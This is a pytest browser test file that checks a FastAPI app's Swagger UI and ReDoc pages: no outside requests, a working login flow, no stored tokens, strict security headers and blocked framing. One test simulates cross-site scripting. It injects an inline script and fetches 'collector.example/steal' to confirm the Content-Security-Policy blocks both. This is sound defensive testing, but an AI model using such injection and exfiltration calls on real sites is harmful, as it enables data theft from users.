"""/docs and /redoc in a real browser, with every request that would leave the machine blocked.

The app runs under uvicorn in a subprocess, as a developer runs it. The pages are loaded both
from 127.0.0.1 and from a public-looking host name that Chromium resolves to 127.0.0.1, as on a
deployed server: Swagger UI turns some features on only off localhost (its online validator
badge, fetched from validator.swagger.io, is one). Every page runs under the app's
Content-Security-Policy: a directive it lacks shows as a violation here.

Skipped when Chromium or Playwright is missing (tests/chromium.py).
"""

import os
import subprocess
import sys
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import httpx2
import pytest

from tests.chromium import (
    Browser,
    ConsoleMessage,
    Page,
    Route,
    expect,
    launched_chromium,
    serving_pages,
)
from tests.conftest import DEFAULT_PASSWORD, ROOT, TEST_SECRET_KEY
from tests.support import free_port, wait_until_healthy

LOCAL_HOST = "127.0.0.1"
# Resolved to 127.0.0.1 by Chromium itself (HOST_RESOLVER_RULES), never looked up in DNS.
PUBLIC_HOST = "docs.example.com"
APP_HOSTS = {LOCAL_HOST, PUBLIC_HOST}
# Where tests.chromium.serving_pages serves a page of another origin.
PAGES_HOST = "localhost"
HOST_RESOLVER_RULES = f"--host-resolver-rules=MAP {PUBLIC_HOST} {LOCAL_HOST}"
STARTUP_TIMEOUT_SECONDS = 15.0
UI_TIMEOUT_MS = 10_000
ME_PATH = "/api/v1/users/me"
LOGIN_PATH = "/api/v1/auth/login"
# Everything a page of the app's origin keeps: both web storages and the cookies.
STORED_IN_THE_BROWSER = "JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie])"
# Every Content-Security-Policy violation on a page, as "<directive> <blocked URL>", in
# window.cspViolations: installed before the page's own scripts run.
RECORD_CSP_VIOLATIONS = """
window.cspViolations = [];
document.addEventListener("securitypolicyviolation", (event) => {
    window.cspViolations.push(`${event.effectiveDirective} ${event.blockedURI}`);
});
"""


@dataclass
class Server:
    port: int

    def url(self, host: str = LOCAL_HOST) -> str:
        return f"http://{host}:{self.port}"


@dataclass
class Credentials:
    email: str
    password: str


@dataclass
class BrowserLog:
    """What a page tried to fetch outside the app, and what it reported as an error."""

    external_requests: list[str] = field(default_factory=list)
    console_errors: list[str] = field(default_factory=list)


def server_environment(database_path: Path) -> dict[str, str]:
    env = dict(os.environ)
    env.update(
        {
            "DATABASE_URL": f"sqlite:///{database_path}",
            "DATABASE_READ_URL": "",
            "ENVIRONMENT": "test",
            "SECRET_KEY": TEST_SECRET_KEY,
            "BCRYPT_ROUNDS": "4",
            "LOGIN_RATE_LIMIT": "1000/minute",
            "REDIS_URL": "",
            "DOCS_ENABLED": "true",
            "FIRST_SUPERUSER_EMAIL": "",
            "FIRST_SUPERUSER_PASSWORD": "",
            "LOG_LEVEL": "WARNING",
        }
    )
    return env


@contextmanager
def running_app(directory: Path) -> Iterator[Server]:
    """The real app on a fresh migrated SQLite file, served by uvicorn until the block ends."""
    env = server_environment(directory / "docs.db")
    migration = subprocess.run(
        [sys.executable, "manage.py", "migrate"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    if migration.returncode != 0:
        pytest.fail(f"manage.py migrate failed:\n{migration.stderr}")
    server = Server(port=free_port())
    log_path = directory / "uvicorn.log"
    command = [sys.executable, "-m", "uvicorn", "main:app"]
    command += ["--host", LOCAL_HOST, "--port", str(server.port)]
    with log_path.open("wb") as log:
        process = subprocess.Popen(
            command,
            cwd=ROOT,
            env=env,
            stdout=log,
            stderr=subprocess.STDOUT,
        )
    try:
        wait_until_healthy(
            server.url(), process, log_path.read_text, timeout=STARTUP_TIMEOUT_SECONDS
        )
        yield server
    finally:
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


def register(server: Server) -> Credentials:
    credentials = Credentials(f"docs-{uuid.uuid4().hex[:12]}@example.com", DEFAULT_PASSWORD)
    response = httpx2.post(
        f"{server.url()}/api/v1/auth/register",
        json={"name": "Docs User", "email": credentials.email, "password": credentials.password},
        timeout=10.0,
    )
    assert response.status_code == 201, response.text
    return credentials


@contextmanager
def offline_page(browser: Browser) -> Iterator[tuple[Page, BrowserLog]]:
    """A page on which any request that is not for the app is aborted, and written down."""
    log = BrowserLog()
    context = browser.new_context(viewport={"width": 1280, "height": 1600})

    def guard(route: Route) -> None:
        if urlsplit(route.request.url).hostname in (*APP_HOSTS, PAGES_HOST):
            route.continue_()
        else:
            log.external_requests.append(route.request.url)
            route.abort()

    def record_console(message: ConsoleMessage) -> None:
        if message.type == "error":
            log.console_errors.append(f"{message.text} at {message.location}")

    context.route("**/*", guard)
    context.add_init_script(RECORD_CSP_VIOLATIONS)
    page = context.new_page()
    page.set_default_timeout(UI_TIMEOUT_MS)
    page.on("console", record_console)
    page.on("pageerror", lambda error: log.console_errors.append(str(error)))
    try:
        yield page, log
    finally:
        context.close()


def csp_violations(page: Page) -> list[str]:
    violations: list[str] = page.evaluate("window.cspViolations")
    return violations


def authorize_and_try_me(page: Page, server: Server, credentials: Credentials) -> None:
    """What a developer does: Authorize with email and password, then Try it out on /users/me."""
    page.goto(f"{server.url()}/docs")
    page.locator(".scheme-container").get_by_role("button", name="Authorize").click()

    dialog = page.locator(".modal-ux")
    dialog.locator("#oauth_username").fill(credentials.email)
    dialog.locator("#oauth_password").fill(credentials.password)
    dialog.get_by_role("button", name="Apply given OAuth2 credentials").click()
    # Shown only once the token request succeeded; a failed login shows its error instead.
    expect(dialog.get_by_role("heading", name="Authorized", exact=True)).to_be_visible()
    expect(dialog.locator("button.authorize", has_text="Logout")).to_be_visible()
    dialog.get_by_role("button", name="Close").first.click()
    expect(dialog).to_have_count(0)

    operation = page.locator(f'.opblock-get:has(.opblock-summary-path[data-path="{ME_PATH}"])')
    operation.locator(".opblock-summary-control").click()
    operation.get_by_role("button", name="Try it out").click()
    operation.get_by_role("button", name="Execute").click()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with running_app(tmp_path_factory.mktemp("docs-server")) as server:
        yield server


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with launched_chromium((HOST_RESOLVER_RULES,)) as browser:
        yield browser


@pytest.fixture
def page_and_log(browser: Browser) -> Iterator[tuple[Page, BrowserLog]]:
    with offline_page(browser) as page_and_log:
        yield page_and_log


@pytest.mark.parametrize("host", [LOCAL_HOST, PUBLIC_HOST])
def test_swagger_ui_renders_with_no_request_leaving_the_app(
    server: Server, page_and_log: tuple[Page, BrowserLog], host: str
) -> None:
    page, log = page_and_log
    page.goto(f"{server.url(host)}/docs")

    expect(page.locator(f'.opblock-summary-path[data-path="{ME_PATH}"]').first).to_be_visible()
    expect(page.locator(".information-container .title")).to_contain_text("FastAPI Accounts")
    # Anything the page fetches late (the validator badge, fonts) has been asked for by now.
    page.wait_for_load_state("networkidle")
    assert log.external_requests == []
    assert log.console_errors == []
    assert csp_violations(page) == []


def test_swagger_ui_authorize_then_try_it_out_on_me(
    server: Server, page_and_log: tuple[Page, BrowserLog]
) -> None:
    page, log = page_and_log
    credentials = register(server)

    authorize_and_try_me(page, server, credentials)

    live_response = page.locator(".live-responses-table .response")
    expect(live_response.locator(".response-col_status")).to_have_text("200")
    expect(live_response.locator(".response-col_description")).to_contain_text(credentials.email)
    assert log.external_requests == []
    assert log.console_errors == []
    assert csp_violations(page) == []


def test_swagger_ui_authorize_with_an_api_key_then_try_it_out_on_me(
    server: Server, page_and_log: tuple[Page, BrowserLog]
) -> None:
    """A script's author checks a key in /docs: the APIKey scheme of Authorize takes it."""
    page, log = page_and_log
    credentials = register(server)
    with httpx2.Client(base_url=server.url(), timeout=10.0) as api:
        tokens = api.post(
            LOGIN_PATH, data={"username": credentials.email, "password": credentials.password}
        ).json()
        issued = api.post(
            "/api/v1/api-keys",
            json={"name": "docs"},
            headers={"Authorization": f"Bearer {tokens['access_token']}"},
        )
    assert issued.status_code == 201, issued.text

    page.goto(f"{server.url()}/docs")
    page.locator(".scheme-container").get_by_role("button", name="Authorize").click()
    dialog = page.locator(".modal-ux")
    scheme = dialog.locator(".auth-container", has_text="APIKey")
    scheme.locator("#auth-bearer-value").fill(issued.json()["key"])
    scheme.get_by_role("button", name="Apply credentials").click()
    expect(scheme.get_by_role("heading", name="Authorized", exact=True)).to_be_visible()
    dialog.get_by_role("button", name="Close").first.click()

    operation = page.locator(f'.opblock-get:has(.opblock-summary-path[data-path="{ME_PATH}"])')
    operation.locator(".opblock-summary-control").click()
    operation.get_by_role("button", name="Try it out").click()
    operation.get_by_role("button", name="Execute").click()
    live_response = page.locator(".live-responses-table .response")
    expect(live_response.locator(".response-col_status")).to_have_text("200")
    expect(live_response.locator(".response-col_description")).to_contain_text(credentials.email)
    assert log.external_requests == []
    assert csp_violations(page) == []


@pytest.mark.parametrize("host", [LOCAL_HOST, PUBLIC_HOST])
def test_redoc_renders_with_no_request_leaving_the_app(
    server: Server, page_and_log: tuple[Page, BrowserLog], host: str
) -> None:
    page, log = page_and_log
    page.goto(f"{server.url(host)}/redoc")

    expect(page.get_by_role("heading", level=1)).to_contain_text("FastAPI Accounts")
    menu = page.locator(".menu-content")
    menu.get_by_role("menuitem", name="users", exact=True).click()
    expect(menu.get_by_text("Read my account", exact=True)).to_be_visible()
    expect(page.get_by_role("button", name=f"get {ME_PATH}", exact=True)).to_be_attached()
    # Search runs in a Worker made from a blob: URL, which the policy must allow.
    page.get_by_placeholder("Search...").fill("account")
    results = page.locator('[data-role="search:results"]')
    expect(results.get_by_role("menuitem", name="Read my account")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert log.external_requests == []
    assert log.console_errors == []
    assert csp_violations(page) == []


def test_authorize_keeps_neither_password_nor_tokens_in_the_browser(
    server: Server, page_and_log: tuple[Page, BrowserLog]
) -> None:
    page, _ = page_and_log
    credentials = register(server)

    with page.expect_response(lambda response: urlsplit(response.url).path == LOGIN_PATH) as login:
        authorize_and_try_me(page, server, credentials)
    expect(page.locator(".live-responses-table .response .response-col_status")).to_have_text("200")
    tokens = login.value.json()
    secrets = [credentials.password, tokens["access_token"], tokens["refresh_token"]]

    stored = page.evaluate(STORED_IN_THE_BROWSER)
    assert page.evaluate("localStorage.getItem('authorized')") is None
    assert [secret for secret in secrets if secret in stored] == []

    # A reload starts signed out: nothing was kept to sign in again with.
    page.reload()
    page.locator(".scheme-container").get_by_role("button", name="Authorize").click()
    dialog = page.locator(".modal-ux")
    expect(dialog.locator("#oauth_username")).to_have_value("")
    expect(dialog.get_by_role("heading", name="Authorized", exact=True)).to_have_count(0)
    stored = page.evaluate(STORED_IN_THE_BROWSER)
    assert [secret for secret in secrets if secret in stored] == []


@pytest.mark.parametrize("path", ["/docs", "/redoc"])
def test_docs_pages_forbid_framing_sniffing_and_referrers(
    server: Server, page_and_log: tuple[Page, BrowserLog], path: str
) -> None:
    page, _ = page_and_log
    response = page.goto(f"{server.url()}{path}")

    assert response is not None
    headers = response.headers
    policy = headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src 'self'" in policy
    assert "frame-ancestors 'none'" in policy
    assert headers["x-frame-options"] == "DENY"
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"


def test_the_docs_policy_stops_an_injected_script_and_what_it_would_send(
    server: Server, page_and_log: tuple[Page, BrowserLog]
) -> None:
    page, log = page_and_log
    page.goto(f"{server.url()}/docs")
    expect(page.locator(".information-container .title")).to_contain_text("FastAPI Accounts")

    # What a cross-site scripting hole would let in: a script of its own, and a request out.
    page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.injected = true";
            document.body.append(script);
        }"""
    )
    outcome = page.evaluate(
        "fetch('http://collector.example/steal').then(() => 'sent', () => 'refused')"
    )

    page.wait_for_function("window.cspViolations.length >= 2")
    assert page.evaluate("window.injected") is None
    assert outcome == "refused"
    assert log.external_requests == []  # refused by the policy: it never reached the network
    assert sorted(csp_violations(page)) == [
        "connect-src http://collector.example/steal",
        "script-src-elem inline",
    ]


def test_a_page_on_another_origin_cannot_frame_the_docs(
    server: Server, page_and_log: tuple[Page, BrowserLog], tmp_path: Path
) -> None:
    page, _ = page_and_log
    (tmp_path / "frame.html").write_text(
        f'<!doctype html><iframe src="{server.url()}/docs" width="800" height="600"></iframe>'
    )

    with serving_pages(tmp_path) as origin:
        page.goto(f"{origin}/frame.html")
        page.wait_for_load_state("load")

    frame = page.frame_locator("iframe")
    expect(frame.locator(".swagger-ui")).to_have_count(0)
    [framed] = page.main_frame.child_frames
    assert not framed.url.startswith(server.url())
